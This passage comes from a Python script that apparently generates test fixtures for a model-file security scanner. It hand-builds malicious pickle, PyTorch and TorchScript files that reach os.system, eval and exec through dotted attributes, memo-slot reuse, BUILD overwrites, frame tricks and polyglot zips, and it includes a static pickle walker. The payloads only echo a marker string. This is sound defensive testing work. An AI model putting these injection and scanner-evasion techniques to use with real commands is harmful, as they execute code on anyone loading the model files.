    mal("p14_legacy_storage_size_lies.pt", bytes(lie), "P14", [], "legacy format whose first storage declares 2**40 elements (far past end of file)")
    lie2 = bytearray(legacy)
    lie2[e:e + 8] = struct.pack("<q", -1)
    mal("p14_legacy_storage_size_negative.pt", bytes(lie2), "P14", [], "legacy format whose first storage declares -1 elements")
    old_tar = tar_bytes([("sys_info", spans and legacy[spans[2][0]:spans[2][1]]), ("pickle", simple),
                         ("storages", pickle.dumps(0, protocol=2)), ("tensors", pickle.dumps(0, protocol=2))])
    mal("p14_old_tar_format.pt", old_tar, "P14", ["posix.system"], "pre-1.0 torch tar format (sys_info, pickle, storages, tensors) with a malicious 'pickle' member", layer="tar>pickle")

    # ---------------- P15: TorchScript
    ts = ctx["ts"]
    ts_members = zip_members(ts)
    names = [n for n, _ in ts_members]
    mal("p15_torchscript_data_pkl_replaced.pt", torch_zip_rewrite(ts, {"/data.pkl": simple}), "P15", ["posix.system"],
        "real TorchScript archive with data.pkl replaced by a malicious pickle", layer="zip>pickle")
    mal("p15_torchscript_constants_pkl_replaced.pt", torch_zip_rewrite(ts, {"/constants.pkl": simple}), "P15", ["posix.system"],
        "real TorchScript archive with constants.pkl replaced by a malicious pickle", layer="zip>pickle")
    mal("p15_torchscript_data_pkl_spliced.pt", torch_zip_rewrite(ts, {"/data.pkl": lambda d: splice_after_proto(d, payload_ops() + POP) if d[2:3] != b"\x95" else d[:2] + payload_ops() + POP + d[2:]}),
        "P15", ["posix.system"], "TorchScript data.pkl with a payload spliced in", layer="zip>pickle")
    code_members = [n for n in names if "/code/" in n and n.endswith(".py")]
    if code_members:
        evil_code = b"def forward(self, x):\n    __import__('os').system('echo modelgate-fixture')\n    return x\n"
        mal("p15_torchscript_code_os_system.pt", torch_zip_rewrite(ts, {code_members[0][len(code_members[0].split('/')[0]):]: lambda d: d + b"\n" + evil_code}),
            "P15", [], "TorchScript code/ file that contains __import__('os').system (raises TorchScript code finding)", layer="zip>torchscript-code")

    # ---------------- P15b: tensor metadata past storage
    def torchlike_pkl(entries):
        """entries: name -> (storage_cls, key, numel, offset, size, stride)"""
        od = []
        for name, (cls, key, numel, off, size, stride) in entries.items():
            od.append((name, G("torch._utils", "_rebuild_tensor_v2")(
                PersId(("storage", G("torch", cls), key, "cpu", numel)), off, size, stride, False,
                G("collections", "OrderedDict")())))
        return asm(HCall(G("collections", "OrderedDict"), od), 2)

    def torchlike_zip(entries, storages):
        members = [{"name": "archive/data.pkl", "data": torchlike_pkl(entries)}]
        for k, data in storages.items():
            members.append({"name": "archive/data/%s" % k, "data": data})
        members.append({"name": "archive/version", "data": b"3\n"})
        return zip_build(members)
    f16 = np.arange(16, dtype=np.float32).tobytes()
    # self-check: the consistent version must load in torch (benign)
    ok = torchlike_zip({"w": ("FloatStorage", "0", 16, 0, (4, 4), (4, 1))}, {"0": f16})
    assert torch.equal(torch.load(io.BytesIO(ok))["w"], torch.arange(16.).reshape(4, 4))
    benign("torch_handmade_consistent.pt", ok, "hand-assembled torch zip (same writer as the P15b fixtures), metadata consistent: must pass")
    mal("p15b_size_past_storage.pt", torchlike_zip({"w": ("FloatStorage", "0", 16, 0, (8, 8), (8, 1))}, {"0": f16}), "P15b", [],
        "tensor size (8,8) needs 64 elements, storage declares/holds 16")
    mal("p15b_offset_past_storage.pt", torchlike_zip({"w": ("FloatStorage", "0", 16, 1000, (4,), (1,))}, {"0": f16}), "P15b", [],
        "storage_offset 1000 past a 16-element storage")
    mal("p15b_stride_past_storage.pt", torchlike_zip({"w": ("FloatStorage", "0", 16, 0, (4, 4), (1000, 1))}, {"0": f16}), "P15b", [],
        "stride 1000 walks past a 16-element storage")
    mal("p15b_negative_stride.pt", torchlike_zip({"w": ("FloatStorage", "0", 16, 0, (4, 4), (-4, 1))}, {"0": f16}), "P15b", [],
        "negative stride")
    mal("p15b_declared_numel_exceeds_member.pt", torchlike_zip({"w": ("FloatStorage", "0", 1 << 20, 0, (1024, 1024), (1024, 1))}, {"0": f16}), "P15b", [],
        "persistent id declares 2**20 elements, archive/data/0 holds 64 bytes")
    mal("p15b_missing_storage_member.pt", torchlike_zip({"w": ("FloatStorage", "7", 16, 0, (4, 4), (4, 1))}, {"0": f16}), "P15b", [],
        "tensor references storage key 7 which has no archive/data/7 member")
    real = tsave({"w": torch.arange(64, dtype=torch.float32)[48:]})
    mal("p15b_real_save_truncated_storage.pt", torch_zip_rewrite(real, {"/data/0": lambda d: d[:64]}), "P15b", [],
        "real torch.save of a view at offset 48 of a 64-float storage; archive/data/0 truncated to 16 floats")

    # ---------------- P16: reaching danger through allowed modules
    p16 = [
        ("torch_dotted_os_system", "torch", "os.system", ["torch.os.system"]),
        ("numpy_dotted_os_system", "numpy", "os.system", ["numpy.os.system"]),
        ("torch_serialization_pickle_loads", "torch.serialization", "pickle.loads", ["torch.serialization.pickle.loads"]),
        ("collections_dunder_builtins_eval", "collections", "__builtins__.eval", ["collections.__builtins__.eval"]),
        ("numpy_dunder_builtins_eval", "numpy", "__builtins__.eval", ["numpy.__builtins__.eval"]),
        ("torch_utils_dunder_globals", "torch._utils", "_rebuild_tensor_v2.__globals__.get", ["torch._utils._rebuild_tensor_v2.__globals__.get"]),
        ("collections_ordereddict_class_dunder", "collections", "OrderedDict.__class__.__subclasses__", ["collections.OrderedDict.__class__.__subclasses__"]),
        ("builtins_getattr_dotted", "builtins", "__import__.__self__.exec", ["builtins.__import__.__self__.exec"]),
        ("torch_sys_modules", "torch", "sys.modules.get", ["torch.sys.modules.get"]),
    ]
    for tag, m, n, mentions in p16:
        arg = inner if "pickle" in n else (PYCMD if "eval" in n or "exec" in n else ("os" if n.endswith(".get") else CMD))
        mal("p16_%s.pkl" % tag, PROTO4 + sbu(m) + sbu(n) + STACK_GLOBAL + (bu(arg) if isinstance(arg, str) else b"C" + bytes([len(arg)]) + arg) + TUPLE1 + REDUCE + STOP,
            "P16", mentions, "protocol 4 STACK_GLOBAL %r %r: dotted/dunder attribute walk from an allowed module" % (m, n))
    mal("p16_numpy_dunder_builtins_only.pkl", PROTO4 + sbu("numpy") + sbu("__builtins__") + STACK_GLOBAL + STOP, "P16", ["numpy.__builtins__"],
        "import of numpy.__builtins__ (the builtins dict) with no call")
    mal("p16_build_overwrites_module_attr.pkl",
        PROTO2 + op_global("torch", "_utils") + b"}X\x12\x00\x00\x00_rebuild_tensor_v2" + op_global("posix", "system") + b"s" + BUILD + POP
        + op_global("torch._utils", "_rebuild_tensor_v2") + bu(CMD) + TUPLE1 + REDUCE + STOP,
        "P16", ["posix.system"], "BUILD on module torch._utils sets _rebuild_tensor_v2 = posix.system, then an 'allowed' rebuild call runs it")
    mal("p16_build_slotstate_on_class.pkl",
        PROTO2 + op_global("torch.nn.modules.linear", "Linear") + b"N}X\x07\x00\x00\x00forward" + op_global("builtins", "exec") + b"s\x86" + BUILD + STOP,
        "P16", ["builtins.exec"], "BUILD (slot state) on the Linear class object replaces its forward with exec")
    mal("p16_memo_slot_reuse.pkl",
        PROTO2 + op_global("collections", "OrderedDict") + b"q\x01" + POP + op_global("posix", "system") + b"q\x01" + POP
        + b"h\x01" + bu(CMD) + TUPLE1 + REDUCE + STOP,
        "P16", ["posix.system"], "BINPUT OrderedDict at slot 1, then BINPUT posix.system into the same slot 1, BINGET 1 + REDUCE")
    mal("p16_memo_slot_reuse_long.pkl",
        PROTO2 + op_global("collections", "OrderedDict") + b"r\x05\x00\x00\x00" + POP + op_global("builtins", "eval") + b"q\x05" + POP
        + b"j\x05\x00\x00\x00" + bu(PYCMD) + TUPLE1 + REDUCE + STOP,
        "P16", ["builtins.eval"], "LONG_BINPUT safe at 5, BINPUT builtins.eval at 5, LONG_BINGET 5 + REDUCE")
    mal("p16_memo_slot_reuse_proto0.pkl",
        b"ccollections\nOrderedDict\np1\n0cposix\nsystem\np1\n0g1\n(" + p0str(CMD) + b"tR.",
        "P16", ["posix.system"], "protocol 0 PUT/GET text memo reuse")
    mal("p16_memoize_reuse_proto4.pkl",
        PROTO4 + sbu("collections") + sbu("OrderedDict") + STACK_GLOBAL + MEMOIZE + POP
        + sbu("posix") + sbu("system") + STACK_GLOBAL + b"q\x00" + POP + b"h\x00" + sbu(CMD) + TUPLE1 + REDUCE + STOP,
        "P16", ["posix.system"], "MEMOIZE puts OrderedDict into slot 0; BINPUT 0 overwrites it with posix.system; BINGET 0 REDUCE")

    # ---------------- P17: operand type confusion / malformed lengths
    mal("p17_stack_global_int_operands.pkl", PROTO4 + b"J\x01\x00\x00\x00J\x02\x00\x00\x00" + STACK_GLOBAL + STOP, "P17", [], "STACK_GLOBAL with int operands")
    mal("p17_stack_global_bytes_operands.pkl", PROTO4 + b"C\x05posixC\x06system" + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP, "P17", [], "STACK_GLOBAL with bytes operands")
    mal("p17_stack_global_none_operands.pkl", PROTO4 + b"NN" + STACK_GLOBAL + STOP, "P17", [], "STACK_GLOBAL with None operands")
    mal("p17_stack_global_tuple_operand.pkl", PROTO4 + sbu("posix") + b")" + STACK_GLOBAL + STOP, "P17", [], "STACK_GLOBAL with a tuple as the name")
    mal("p17_stack_global_empty_stack.pkl", PROTO4 + STACK_GLOBAL + STOP, "P17", [], "STACK_GLOBAL on an empty stack")
    mal("p17_binunicode_huge_length.pkl", PROTO2 + payload_ops() + POP + b"X\xf0\xff\xff\xff" + b"short" + STOP, "P17", ["posix.system"],
        "after a payload: BINUNICODE declaring 0xFFFFFFF0 bytes in a tiny file")
    mal("p17_binunicode8_huge_length.pkl", PROTO4 + b"\x8d" + struct.pack("<Q", (1 << 63) + 5) + b"abc" + STOP, "P17", [], "BINUNICODE8 with a 2**63+5 length")
    mal("p17_binbytes8_huge_length.pkl", PROTO4 + b"\x8e" + struct.pack("<Q", 0xFFFFFFFFFFFFFFFF) + STOP, "P17", [], "BINBYTES8 with length 2**64-1")
    mal("p17_long4_negative_length.pkl", PROTO2 + b"\x8b" + struct.pack("<i", -5) + b"\x01\x02" + STOP, "P17", [], "LONG4 with a negative byte count")
    mal("p17_long4_huge_length.pkl", PROTO2 + b"\x8b" + struct.pack("<i", 0x7FFFFFFF) + b"\x01" + STOP, "P17", [], "LONG4 declaring 2GB of digits")
    mal("p17_binget_never_put.pkl", PROTO2 + b"h\x07" + bu(CMD) + TUPLE1 + REDUCE + STOP, "P17", [], "BINGET 7 of a never-PUT key, then REDUCE of it")
    mal("p17_long_binget_never_put.pkl", PROTO2 + b"j\xff\xff\xff\xff" + STOP, "P17", [], "LONG_BINGET of a never-PUT key 2**32-1")
    mal("p17_append_without_mark.pkl", PROTO2 + b"a" + STOP, "P17", [], "APPEND on an empty stack")
    mal("p17_appends_without_mark.pkl", PROTO2 + b"]K\x01K\x02e" + STOP, "P17", [], "APPENDS with no MARK on the stack")
    mal("p17_setitems_without_mark.pkl", PROTO2 + b"}K\x01K\x02u" + STOP, "P17", [], "SETITEMS with no MARK")
    mal("p17_long_binput_max_key.pkl",
        PROTO2 + op_global("posix", "system") + b"r\xff\xff\xff\xff" + POP + b"j\xff\xff\xff\xff" + bu(CMD) + TUPLE1 + REDUCE + STOP,
        "P17", ["posix.system"], "LONG_BINPUT with key 2**32-1 (crashes array-backed memos), then LONG_BINGET + REDUCE of posix.system")
    mal("p17_put_nonint_key.pkl", b"cposix\nsystem\npabc\n0gabc\n(" + p0str(CMD) + b"tR.", "P17", ["posix.system"], "protocol 0 PUT/GET with a non-integer key 'abc'")
    mal("p17_put_negative_key.pkl", b"cposix\nsystem\np-1\n0g-1\n(" + p0str(CMD) + b"tR.", "P17", ["posix.system"], "protocol 0 PUT/GET with key -1")
    mal("p17_setitem_unhashable_key.pkl", PROTO2 + b"}]K\x01s" + payload_ops() + STOP, "P17", ["posix.system"], "SETITEM with an unhashable (list) key, then a payload")
    mal("p17_unknown_opcode.pkl", PROTO2 + payload_ops() + b"\xf0" + STOP, "P17", ["posix.system"], "payload then an undefined opcode 0xf0")
    mal("p17_proto_999.pkl", b"\x80\xff" + payload_ops() + STOP, "P17", ["posix.system"], "PROTO 255 (unsupported) with a payload")
    mal("p17_deep_marks.pkl", PROTO2 + MARK * 200000 + payload_ops() + STOP, "P17", ["posix.system"], "200000 nested MARKs (recursion/depth bound) then a payload")
    mal("p17_deep_lists.pkl", PROTO2 + (b"]" + MARK) * 50000 + payload_ops() + b"a" + b"e" * 49999 + STOP, "P17", ["posix.system"], "50000 nested lists (depth bound) around a payload")
    mal("p17_global_no_newline.pkl", PROTO2 + b"cposix\nsystem", "P17", [], "GLOBAL whose name has no terminating newline (truncated)")
    mal("p17_global_non_utf8.pkl", PROTO2 + b"cpos\xffix\nsys\xfetem\n" + bu(CMD) + TUPLE1 + REDUCE + STOP, "P17", [], "GLOBAL with non-UTF-8 bytes in module/name")
    mal("p17_string_bad_quotes.pkl", payload_ops() + POP + b"S'unterminated\n" + STOP, "P17", ["posix.system"], "payload, then a protocol 0 STRING without a closing quote")
    mal("p17_int_huge_text.pkl", b"I" + b"9" * 4000 + b"\n" + POP + payload_ops() + STOP, "P17", ["posix.system"], "INT opcode with 4000 digits (CPython 3.11 caps int() at 4300), then a payload")
    mal("p17_int_too_many_digits.pkl", payload_ops() + POP + b"I" + b"9" * 5000 + b"\n" + STOP, "P17", ["posix.system"], "payload, then an INT with 5000 digits (rejected by CPython 3.11's int limit)")

    # ---------------- P18: ambiguity
    benign_zip = tsave(sd32)
    p = simple
    mal("p18_polyglot_pickle_then_zip.pt", zip_build([{"name": n, "data": d, "descriptor": True} for n, d in base_members], prefix=p),
        "P18", ["posix.system"], "valid malicious pickle followed by a valid (benign) torch zip whose offsets account for the prefix", layer="pickle|zip")
    mal("p18_polyglot_benign_pickle_malicious_zip.pt",
        zip_build(members_with(), prefix=pickle.dumps({"weights": [1.0]}, protocol=2)),
        "P18", ["posix.system"], "valid benign pickle followed by a malicious torch zip (zip readers find the EOCD)", layer="pickle|zip>pickle")
    mal("p18_polyglot_zip_unadjusted.pt", simple + benign_zip, "P18", ["posix.system"],
        "malicious pickle concatenated with an unmodified torch zip (offsets not adjusted)", layer="pickle|zip")
    mal("p18_duplicate_names_malicious_first.pt",
        zip_build([{"name": prefix + "/data.pkl", "data": mal_pkl}] + [{"name": n, "data": d} for n, d in base_members]),
        "P18", ["posix.system"], "two members named data.pkl: malicious first, benign second", layer="zip>pickle")
    mal("p18_zip_central_points_elsewhere.pt",
        zip_build([{"name": n, "data": d} for n, d in base_members] + [{"name": prefix + "/data.pkl.bak", "data": mal_pkl, "local_name": prefix + "/data.pkl"}]),
        "P18", ["posix.system"], "stream-readers see a 2nd local data.pkl (central name data.pkl.bak)", layer="zip>pickle")
    mal("p18_frame_too_short.pkl", PROTO4 + b"\x95" + struct.pack("<Q", 3) + sbu("posix") + sbu("system") + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP,
        "P18", ["posix.system"], "FRAME declares 3 bytes but the next opcode spans further")
    mal("p18_frame_too_long.pkl", PROTO4 + b"\x95" + struct.pack("<Q", 100000) + sbu("posix") + sbu("system") + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP,
        "P18", ["posix.system"], "FRAME declares 100000 bytes in a tiny file")
    body = sbu("posix") + sbu("system") + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP
    mal("p18_frame_splits_opcode.pkl", PROTO4 + b"\x95" + struct.pack("<Q", 4) + body[:4] + b"\x95" + struct.pack("<Q", len(body) - 4) + body[4:],
        "P18", [], "a second FRAME opcode placed in the middle of a SHORT_BINUNICODE operand (posix.system is only visible to a frame-aware reader)")
    mal("p18_frame_hides_stop.pkl", PROTO4 + b"\x95" + struct.pack("<Q", 2) + b"N." + payload_ops() + STOP,
        "P18", ["posix.system"], "framed benign pickle (N.) whose frame ends at STOP, payload follows outside any frame")

    return spliced


# ---------------------------------------------------------------------------
# EXAMPLES
# ---------------------------------------------------------------------------
def gen_examples(ctx, spliced):
    import torch
    import joblib
    from sklearn.linear_model import LogisticRegression
    shutil.rmtree(EX, ignore_errors=True)
    os.makedirs(EX)
    torch.manual_seed(0)
    write("safe_model.pt", ctx["tsave"](torch.nn.Linear(4, 2).state_dict()), None, None, root=EX)
    b = io.BytesIO()
    np.save(b, np.linspace(0, 1, 16, dtype=np.float32).reshape(4, 4))
    write("safe_array.npy", b.getvalue(), None, None, root=EX)
    rng = np.random.RandomState(0)
    X = rng.rand(20, 3)
    joblib.dump(LogisticRegression().fit(X, (X[:, 0] > 0.5).astype(int)), os.path.join(EX, "safe_classifier.joblib"))
    write("reverse_shell.pkl", simple_mal(), None, None, root=EX)
    write("malicious_model.bin", spliced, None, None, root=EX)
    write("weights.safetensors", dumps(Call(os.system, CMD), 2), None, None, root=EX)
    write("nullifai_broken.pkl", PROTO2 + payload_ops() + POP + b"\xff\xfe not a pickle anymore", None, None, root=EX)
    with open(os.path.join(EX, "README.md"), "w") as f:
        f.write("# modelgate examples\n\n"
                "Three safe files (`safe_model.pt`, `safe_array.npy`, `safe_classifier.joblib`) and four malicious ones\n"
                "(`reverse_shell.pkl`, `malicious_model.bin`, `weights.safetensors`, `nullifai_broken.pkl`) for the quickstart:\n"
                "`modelgate scan examples/`. The payloads are harmless (`echo modelgate-fixture`), but **never load these files**\n"
                "with pickle/torch/joblib anyway. Regenerate with `/usr/bin/python3 scripts/make_fixtures.py`.\n")


# ---------------------------------------------------------------------------
# global enumeration: a tiny *symbolic* pickle walker (pickletools.genops +
# a stack model; nothing is ever executed or imported)
# ---------------------------------------------------------------------------
class _Sym:
    def __init__(self, kind, *a):
        self.kind, self.a, self.state = kind, a, None

    def __repr__(self):
        return "<%s %r>" % (self.kind, self.a)


def _gname(x):
    return x.a[0] if isinstance(x, _Sym) and x.kind == "G" else None


def walk_pickles(data, pos=0, joblib=False, found=None, depth=0, single=False):
    """Symbolically walk consecutive pickles from `pos`.  Collects imported
    'module.name' strings into `found` (a set), recursing into constant bytes
    that look like pickles.  joblib=True skips raw array bytes written after a
    NumpyArrayWrapper BUILD.  Returns (found, end_pos, clean)."""
    found = set() if found is None else found
    if depth > 6:
        return found, pos, False
    stack, meta, memo = [], [], {}
    clean = True
    while pos < len(data):
        restart = None
        stopped = False
        try:
            for op, arg, p in pickletools.genops(io.BytesIO(data[pos:])):
                n = op.name
                at = pos + p
                if n == "MARK":
                    meta.append(stack)
                    stack = []
                elif n in ("TUPLE", "LIST", "DICT", "APPENDS", "SETITEMS", "ADDITEMS", "FROZENSET", "INST", "OBJ", "POP_MARK"):
                    items = stack
                    stack = meta.pop()
                    if n == "TUPLE":
                        stack.append(tuple(items))
                    elif n == "LIST":
                        stack.append(list(items))
                    elif n == "DICT":
                        stack.append(_Sym("dict"))
                    elif n == "APPENDS":
                        if isinstance(stack[-1], list):
                            stack[-1].extend(items)
                    elif n == "SETITEMS":
                        if isinstance(stack[-1], dict):
                            for k, v in zip(items[::2], items[1::2]):
                                try:
                                    stack[-1][k] = v
                                except TypeError:
                                    pass
                    elif n == "FROZENSET":
                        stack.append(_Sym("frozenset"))
                    elif n == "INST":
                        m, nm = arg.split(" ", 1)
                        found.add(m + "." + nm)
                        stack.append(_Sym("CALL", _Sym("G", m + "." + nm), tuple(items)))
                    elif n == "OBJ":
                        if _gname(items[0]):
                            pass
                        stack.append(_Sym("CALL", items[0], tuple(items[1:])))
                elif n == "GLOBAL":
                    m, nm = arg.split(" ", 1)
                    found.add(m + "." + nm)
                    stack.append(_Sym("G", m + "." + nm))
                elif n == "STACK_GLOBAL":
                    nm, m = stack.pop(), stack.pop()
                    if isinstance(m, str) and isinstance(nm, str):
                        found.add(m + "." + nm)
                        stack.append(_Sym("G", m + "." + nm))
                    else:
                        found.add("<non-constant STACK_GLOBAL>")
                        stack.append(_Sym("G", None))
                elif n == "REDUCE":
                    args, f = stack.pop(), stack.pop()
                    stack.append(_Sym("CALL", f, args))
                elif n == "NEWOBJ":
                    args, cls = stack.pop(), stack.pop()
                    stack.append(_Sym("CALL", cls, args))
                elif n == "NEWOBJ_EX":
                    kw, args, cls = stack.pop(), stack.pop(), stack.pop()
                    stack.append(_Sym("CALL", cls, args))
                elif n == "BUILD":
                    state = stack.pop()
                    obj = stack[-1]
                    if isinstance(obj, _Sym):
                        obj.state = state
                    if joblib and isinstance(obj, _Sym) and obj.kind == "CALL" and (_gname(obj.a[0]) or "").endswith("NumpyArrayWrapper") and isinstance(state, dict):
                        restart = _joblib_array_end(data, at + 1, state, found, depth)
                        break
                elif n in ("PUT", "BINPUT", "LONG_BINPUT"):
                    memo[arg] = stack[-1]
                elif n == "MEMOIZE":
                    memo[len(memo)] = stack[-1]
                elif n in ("GET", "BINGET", "LONG_BINGET"):
                    stack.append(memo.get(arg))
                elif n == "TUPLE1":
                    stack.append((stack.pop(),))
                elif n == "TUPLE2":
                    b_, a_ = stack.pop(), stack.pop()
                    stack.append((a_, b_))
                elif n == "TUPLE3":
                    c_, b_, a_ = stack.pop(), stack.pop(), stack.pop()
                    stack.append((a_, b_, c_))
                elif n == "EMPTY_TUPLE":
                    stack.append(())
                elif n == "EMPTY_LIST":
                    stack.append([])
                elif n == "EMPTY_DICT":
                    stack.append({})
                elif n == "APPEND":
                    v = stack.pop()
                    if isinstance(stack[-1], list):
                        stack[-1].append(v)
                elif n == "SETITEM":
                    v, k = stack.pop(), stack.pop()
                    if isinstance(stack[-1], dict):
                        try:
                            stack[-1][k] = v
                        except TypeError:
                            pass
                elif n == "POP":
                    stack.pop()
                elif n == "DUP":
                    stack.append(stack[-1])
                elif n == "BINPERSID":
                    stack.append(_Sym("PID", stack.pop()))
                elif n == "PERSID":
                    stack.append(_Sym("PID", arg))
                elif n == "NONE":
                    stack.append(None)
                elif n in ("NEWTRUE", "NEWFALSE"):
                    stack.append(n == "NEWTRUE")
                elif n in ("PROTO", "FRAME", "READONLY_BUFFER"):
                    pass
                elif n == "STOP":
                    stack.clear()
                    meta.clear()
                    pos = at + 1
                    stopped = True
                    break
                elif n in ("EXT1", "EXT2", "EXT4"):
                    found.add("<EXT %d>" % arg)
                    stack.append(_Sym("EXT", arg))
                elif isinstance(arg, (bytes, bytearray)):
                    if arg[:1] == b"\x80" and len(arg) > 2:
                        walk_pickles(bytes(arg), 0, False, found, depth + 1)
                    stack.append(bytes(arg))
                elif arg is not None or op.stack_after:
                    # constants (ints, floats, strings) and anything else: push the arg
                    for _ in op.stack_before:
                        stack.pop()
                    if op.stack_after:
                        stack.append(arg)
        except Exception:
            return found, pos, False
        if restart is not None:
            pos = restart
            continue
        if not stopped:
            return found, pos, False
        if single:
            break
    return found, pos, clean


def _joblib_array_end(data, q, state, found, depth):
    """Position right after the raw bytes joblib wrote for one array."""
    dt = state.get("dtype")
    descr = None
    if isinstance(dt, _Sym) and dt.kind == "CALL" and isinstance(dt.a[1], tuple) and dt.a[1]:
        descr = dt.a[1][0]
    if descr is None or descr.startswith("O"):
        # object array: joblib pickles it with pickle.dump(protocol=2)
        _, end, _ = walk_pickles(data, q, False, found, depth + 1, single=True)
        return end
    if state.get("allow_mmap"):
        q += 1 + data[q]
    numel = 1
    for d in state.get("shape", ()):
        numel *= d
    return q + numel * np.dtype(descr).itemsize


def raw_zip_members(data):
    """Read zip members the lenient way PyTorch's reader does: central directory
    offsets, local header for the data start, no CRC / flag / name checks; plus
    every local header found by a linear scan (catches local-only / shadowed entries)."""
    seen = set()
    out = []
    eocd = data.rfind(b"PK\x05\x06")
    if eocd >= 0:
        n, cd_size, cd_off = struct.unpack("<HII", data[eocd + 10:eocd + 20])
        pos = cd_off
        # tolerate prepended data whose offsets were not adjusted
        delta = eocd - cd_size - cd_off
        if data[pos:pos + 4] != b"PK\x01\x02":
            pos += delta
        else:
            delta = 0
        for _ in range(n):
            if data[pos:pos + 4] != b"PK\x01\x02":
                break
            (method, csize, nlen, xlen, clen, loff) = (struct.unpack("<H", data[pos + 10:pos + 12])[0],
                                                       struct.unpack("<I", data[pos + 20:pos + 24])[0],
                                                       *struct.unpack("<HHH", data[pos + 28:pos + 34]),
                                                       struct.unpack("<I", data[pos + 42:pos + 46])[0])
            cname = data[pos + 46:pos + 46 + nlen].decode("utf8", "replace")
            pos += 46 + nlen + xlen + clen
            lo = loff + delta
            seen.add(lo)
            out.append((cname, _local_member(data, lo, csize, method)))
    pos = data.find(b"PK\x03\x04")
    while pos >= 0:
        if pos not in seen:
            flags, method = struct.unpack("<HH", data[pos + 6:pos + 10])
            csize = struct.unpack("<I", data[pos + 18:pos + 22])[0]
            nlen = struct.unpack("<H", data[pos + 26:pos + 28])[0]
            lname = data[pos + 30:pos + 30 + nlen].decode("utf8", "replace")
            if csize or not flags & 8:
                out.append((lname + "(local)", _local_member(data, pos, csize, method)))
        pos = data.find(b"PK\x03\x04", pos + 4)
    return out


def _local_member(data, lo, csize, method):
    nlen, xlen = struct.unpack("<HH", data[lo + 26:lo + 30])
    start = lo + 30 + nlen + xlen
    body = data[start:start + csize]
    if method == 8:
        try:
            body = zlib.decompressobj(-15).decompress(body)
        except zlib.error:
            pass
    return body


def _unwrap_all(data, name):
    """Yield (label, bytes, is_joblib) for every pickle stream inside `data`.
    Decompresses and opens archives (ours, benign and malicious); loads nothing."""
    if data[:4] == b"PK\x03\x04" or (b"PK\x05\x06" in data[-65557:] and b"PK\x03\x04" in data):
        for mname, d in raw_zip_members(data):
            if mname.endswith(".py") or mname.endswith("/version"):
                continue
            yield from _unwrap_all(d, name + "!" + mname)
        if data[:4] == b"PK\x03\x04":
            return
    if data[:6] == b"7z\xbc\xaf\x27\x1c":
        import py7zr
        with py7zr.SevenZipFile(io.BytesIO(data)) as z:
            for n, bio in sorted(z.readall().items()):
                yield from _unwrap_all(bio.read(), name + "!" + n)
        return
    try:
        if data[:2] == b"\x1f\x8b":
            yield from _unwrap_all(gzip.decompress(data), name + ">gzip")
            return
        if data[:3] == b"BZh":
            yield from _unwrap_all(bz2.decompress(data), name + ">bz2")
            return
        if data[:6] == b"\xfd7zXZ\x00":
            yield from _unwrap_all(lzma.decompress(data), name + ">xz")
            return
        if data[:3] == b"\x5d\x00\x00":
            yield from _unwrap_all(lzma.decompress(data, format=lzma.FORMAT_ALONE), name + ">lzma")
            return
        if data[:1] == b"\x78" and data[1:2] in (b"\x01", b"\x5e", b"\x9c", b"\xda"):
            yield from _unwrap_all(zlib.decompress(data), name + ">zlib")
            return
        if data[:5] == b"ZF0x":  # very old joblib zlib container (not produced here)
            return
    except Exception:
        return
    if len(data) > 262 and data[257:262] == b"ustar":
        t = tarfile.open(fileobj=io.BytesIO(data))
        for m in t.getmembers():
            if m.isfile():
                yield from _unwrap_all(t.extractfile(m).read(), name + "!" + m.name)
        return
    if data[:6] == b"\x93NUMPY":
        hl = struct.unpack("<H", data[8:10])[0] if data[6] == 1 else struct.unpack("<I", data[8:12])[0]
        off = (10 if data[6] == 1 else 12) + hl
        if b"'O'" in data[:off] or b"|O" in data[:off]:
            yield (name + ">npy", data[off:], False)
        return
    yield (name, data, name.split(">")[0].split("!")[0].endswith(".joblib") or b"NumpyArrayWrapper" in data[:4096])


def globals_of_file(path, resync=False):
    with open(path, "rb") as f:
        data = f.read()
    found = set()
    for label, pk, is_joblib in _unwrap_all(data, os.path.basename(path)):
        # PyTorch legacy files and P8-style streams hold several pickles: walk them all
        # (raw legacy storages after the last pickle end the walk as "not clean")
        _, end, clean = walk_pickles(pk, 0, is_joblib, found)
        if resync and not clean:
            # --check only: look for further pickles after a region we could not model
            # (legacy storages, garbage) by trying every PROTO opcode after the break
            q = pk.find(b"\x80", end + 1)
            while q >= 0:
                walk_pickles(pk, q, False, found)
                q = pk.find(b"\x80", q + 1)
    return found


def list_benign_globals():
    allg = collections.defaultdict(set)
    bdir = os.path.join(FIX, "benign")
    for root, _, files in os.walk(bdir):
        for fn in sorted(files):
            path = os.path.join(root, fn)
            for g in globals_of_file(path):
                allg[g].add(os.path.relpath(path, bdir))
    return allg


def check_manifest():
    """Every block fixture's `mentions` must appear among its statically found imports."""
    with open(os.path.join(FIX, "manifest.json")) as f:
        man = json.load(f)
    on_disk = set()
    for root, _, files in os.walk(FIX):
        for fn in files:
            rel = os.path.relpath(os.path.join(root, fn), FIX)
            if rel.startswith(("benign/", "malicious/")):
                on_disk.add(rel)
    listed = {e["file"] for e in man}
    bad = 0
    for missing in sorted(on_disk - listed):
        print("NOT IN MANIFEST:", missing)
        bad += 1
    for extra in sorted(listed - on_disk):
        print("MISSING FILE:", extra)
        bad += 1
    for e in man:
        if not e["mentions"]:
            continue
        g = globals_of_file(os.path.join(FIX, e["file"]), resync=True)
        miss = [m for m in e["mentions"] if m not in g]
        if miss:
            print("MENTION NOT FOUND:", e["file"], miss, sorted(g)[:12])
            bad += 1
    print("check: %d entries, %d problems" % (len(man), bad))
    return bad


# ---------------------------------------------------------------------------
def main():
    if os.environ.get("PYTHONHASHSEED") != "0":  # set/frozenset order must be reproducible
        env = dict(os.environ, PYTHONHASHSEED="0")
        os.execve(sys.executable, [sys.executable] + sys.argv, env)
    if "--check" in sys.argv:
        sys.exit(1 if check_manifest() else 0)
    if "--globals" in sys.argv:
        g = list_benign_globals()
        for name in sorted(g):
            files = sorted(g[name])
            print("%-60s %3d  e.g. %s" % (name, len(files), files[0]))
        return
    for sub in ("benign", "malicious"):
        shutil.rmtree(os.path.join(FIX, sub), ignore_errors=True)
        os.makedirs(os.path.join(FIX, sub))
    ctx = gen_benign()
    spliced = gen_malicious(ctx)
    gen_examples(ctx, spliced)
    MANIFEST.sort(key=lambda e: e["file"])
    with open(os.path.join(FIX, "manifest.json"), "w") as f:
        f.write("[\n" + ",\n".join(json.dumps(e, sort_keys=False) for e in MANIFEST) + "\n]\n")
